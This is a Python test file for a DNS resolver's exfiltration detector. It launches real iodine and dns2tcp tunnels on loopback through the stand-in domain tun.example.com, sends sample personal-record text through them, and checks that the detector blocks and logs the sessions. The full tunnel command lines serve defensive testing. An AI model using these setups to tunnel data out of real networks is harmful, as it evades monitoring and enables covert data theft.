"""Real tunnels (Debian's iodine and dns2tcp) through the running server on loopback.

The tunnel server is the resolver's upstream, authoritative for tun.example.com; the tunnel client
talks to the resolver, which must listen on port 53 (the clients have no port option): we use
127.0.0.53 and skip when that cannot be bound. A control run with the stage off shows the
same iodine session set up through the same server. Until the lead wires the stage into
resolver/app.py, the test inserts it right after the blocklist stage itself.
"""

from __future__ import annotations

import asyncio
import contextlib
import shutil
import socket
import sqlite3
import time
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from resolver.app import App
from resolver.config.exfiltration import ExfiltrationConfig
from resolver.core.responses import BlockAnswer
from resolver.core.steps import Verdict
from resolver.stages.exfiltration import ExfiltrationStage
from tests.conftest import make_config

LISTEN = "127.0.0.53"


def free_udp_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def port_53_free() -> bool:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind((LISTEN, 53))
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((LISTEN, 53))
    except OSError:
        return False
    return True


@contextlib.asynccontextmanager
async def process(*argv: str) -> AsyncIterator[asyncio.subprocess.Process]:
    proc = await asyncio.create_subprocess_exec(
        *argv, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
    )
    try:
        yield proc
    finally:
        if proc.returncode is None:
            proc.kill()
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(proc.wait(), 3)


async def echo_server() -> tuple[asyncio.Server, int]:
    async def echo(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError):
            while data := await r.read(4096):
                w.write(data)
                await w.drain()
        w.close()

    server = await asyncio.start_server(echo, "127.0.0.1", 0)
    return server, int(server.sockets[0].getsockname()[1])


async def wait_listening(port: int, deadline: float) -> bool:
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError):
            _, w = await asyncio.open_connection("127.0.0.1", port)
            w.close()
            return True
        await asyncio.sleep(0.1)
    return False


async def wait_udp_bound(port: int, deadline: float) -> bool:
    """Until a UDP socket is bound to 127.0.0.1:``port`` (read from /proc/net/udp: a probe
    query would not do, dns2tcpd answers only its own protocol)."""
    want = f"0100007F:{port:04X}"
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError):
            lines = Path("/proc/net/udp").read_text().splitlines()[1:]
            if any(line.split()[1] == want for line in lines if len(line.split()) > 1):
                return True
        await asyncio.sleep(0.05)
    return False


async def pump(port: int, seconds: float, enough: int = 0) -> int:
    """Send through the tunnel for at most ``seconds`` (or until ``enough`` bytes came back,
    when given); return the bytes echoed back."""
    echoed = 0
    deadline = time.monotonic() + seconds
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 2)
    except (TimeoutError, OSError):
        return 0
    try:
        while time.monotonic() < deadline:
            w.write(b"acte de naissance n. 1234, nom, prenom, date de naissance ... " * 8)
            await w.drain()
            try:
                data = await asyncio.wait_for(r.read(65536), max(0.1, deadline - time.monotonic()))
            except TimeoutError:
                break
            if not data:
                break
            echoed += len(data)
            if enough and echoed >= enough:
                break
    except ConnectionError:
        pass
    finally:
        w.close()
    return echoed


def _blocklog_rows(tmp_path: Path) -> list[tuple[str, str, str, str, str]]:
    db = sqlite3.connect(tmp_path / "state" / "blocks.sqlite")
    try:
        return db.execute("SELECT client, qname, verdict, reason, category FROM blocks").fetchall()
    finally:
        db.close()


def _resolver(tmp_path: Path, upstream_port: int, mode: str) -> tuple[App, ExfiltrationStage]:
    """The server as configured by an operator: the stage comes from the config's mode."""
    if not port_53_free():
        pytest.skip(f"cannot bind {LISTEN}:53 (the tunnel clients only talk to port 53)")
    extra = f"server:\n  listen: ['{LISTEN}:53']\nexfiltration:\n  mode: '{mode}'\n"
    app = App(make_config(tmp_path, upstream_port, extra))
    if mode == "off":
        assert app.exfiltration is None
        return app, ExfiltrationStage(ExfiltrationConfig(), BlockAnswer())  # unused
    assert app.exfiltration is not None
    return app, app.exfiltration


async def read_until(proc: asyncio.subprocess.Process, marker: bytes, seconds: float) -> bytes:
    """The process's output until ``marker`` shows, it exits, or ``seconds`` pass."""
    out = b""
    deadline = time.monotonic() + seconds
    assert proc.stdout is not None
    while marker not in out and time.monotonic() < deadline:
        try:
            line = await asyncio.wait_for(proc.stdout.readline(), deadline - time.monotonic())
        except TimeoutError:
            break
        if not line:
            break
        out += line
    return out


def _assert_cut_off(app: App, stage: ExfiltrationStage, rows: list[tuple[str, ...]]) -> None:
    found = stage.drain()
    assert found, "no detection"
    d = found[0]
    assert (d.client, d.domain, d.blocked) == ("127.0.0.1", "example.com", True)
    assert rows and {r[2] for r in rows} == {Verdict.EXFILTRATION}
    assert {r[4] for r in rows} == {"exfiltration"}
    assert all(r[3].startswith("exfil:") for r in rows)
    assert app.service.counts[Verdict.EXFILTRATION] == len(rows)
    print("detection:", d.signals, "blocked queries:", len(rows), "first:", rows[0][1:4])


@pytest.mark.skipif(
    not (shutil.which("iodined") and shutil.which("iodine") and Path("/dev/net/tun").exists()),
    reason="iodine is not installed (apt-get install iodine) or /dev/net/tun is missing",
)
@pytest.mark.parametrize("mode", ["block", "off"])
async def test_iodine_session_is_cut_off_within_seconds(tmp_path: Path, mode: str) -> None:
    port = free_udp_port()
    app, stage = _resolver(tmp_path, port, mode)
    suffix = str(port % 1000)
    await app.start()
    try:
        async with process(
            "iodined",
            "-f",
            "-l",
            "127.0.0.1",
            "-p",
            str(port),
            "-d",
            f"dnss{suffix}",
            "-P",
            "parafoudre",
            "10.53.7.1",
            "tun.example.com",
        ) as server:
            ready = await read_until(server, b"Listening to dns", 5)
            if b"Listening to dns" not in ready:
                pytest.skip(f"iodined cannot start here: {ready[-300:]!r}")
            # -r: no raw UDP mode, which would bypass the resolver and talk to the server directly
            async with process(
                "iodine",
                "-f",
                "-r",
                "-d",
                f"dnsc{suffix}",
                "-P",
                "parafoudre",
                LISTEN,
                "tun.example.com",
            ) as client:
                started = time.monotonic()
                out = await read_until(client, b"Connection setup complete", 15)
                elapsed = time.monotonic() - started
        assert await asyncio.to_thread(app.blocklog.flush)
    finally:
        await app.stop()
    rows = _blocklog_rows(tmp_path)
    if mode == "off":
        # the control: the same tool sets its tunnel up through the server without the detector
        assert b"Connection setup complete" in out, out[-500:]
        assert rows == []
        return
    assert b"Connection setup complete" not in out, out[-500:]
    assert elapsed < 15
    _assert_cut_off(app, stage, rows)


@pytest.mark.skipif(
    not (shutil.which("dns2tcpd") and shutil.which("dns2tcpc")),
    reason="dns2tcp is not installed (apt-get install dns2tcp)",
)
@pytest.mark.parametrize("mode", ["block", "off"])
async def test_dns2tcp_session_works_without_the_detector_and_is_cut_off_with_it(
    tmp_path: Path, mode: str
) -> None:
    """dns2tcp's base64 needs a resolver that keeps the names' case (issue 14): with the
    detector off, a real session carries data through Parafoudre (the control); with it on,
    its queries are blocked within the first few."""
    echo, echo_port = await echo_server()
    port = free_udp_port()
    conf = tmp_path / "dns2tcpd.conf"
    conf.write_text(
        f"listen = 127.0.0.1\nport = {port}\nuser = nobody\nchroot = /tmp\n"
        f"domain = tun.example.com\nresources = echo:127.0.0.1:{echo_port}\n"
    )
    app, stage = _resolver(tmp_path, port, mode)
    local = free_udp_port()
    echoed = 0
    await app.start()
    try:
        async with process("dns2tcpd", "-F", "-f", str(conf)):
            # dns2tcpc gives up if its first queries meet a server not yet listening (the box
            # answers SERVFAIL): start it once dns2tcpd answers.
            assert await wait_udp_bound(port, time.monotonic() + 15), "dns2tcpd never listened"
            said: list[bytes] = []
            for _ in range(3):  # bounded: a client that could not start is started again
                async with process(
                    "dns2tcpc", "-z", "tun.example.com", "-r", "echo", "-l", str(local), LISTEN
                ) as client:
                    if await wait_listening(local, time.monotonic() + 10):
                        # The control may be slow on a loaded machine (a few bytes per query,
                        # each a round trip through the box): pump until a kilobyte came back.
                        off = mode == "off"
                        echoed = await pump(local, 15.0 if off else 3.0, enough=1024 if off else 0)
                        break
                    if mode != "off" and app.service.counts[Verdict.EXFILTRATION]:
                        break  # cut off while it set its session up: what is to be shown
                    # dns2tcpc gives up for good when its first queries fail (dns2tcpd bound
                    # its port but not yet answering, on a loaded machine): as a user would,
                    # start it again, and keep what it said.
                    said.append((await read_until(client, b"\0", 1))[-400:])
            if mode == "off" and not echoed:
                raise AssertionError(
                    f"dns2tcpc never set its session up through the box: {said!r}, "
                    f"server counts {app.service.counts}"
                )
        assert await asyncio.to_thread(app.blocklog.flush)
    finally:
        await app.stop()
        echo.close()
    if mode == "off":
        assert echoed >= 1024, echoed  # the data came back through the tunnel
        assert _blocklog_rows(tmp_path) == []
        return
    assert echoed < 4096, echoed
    _assert_cut_off(app, stage, _blocklog_rows(tmp_path))
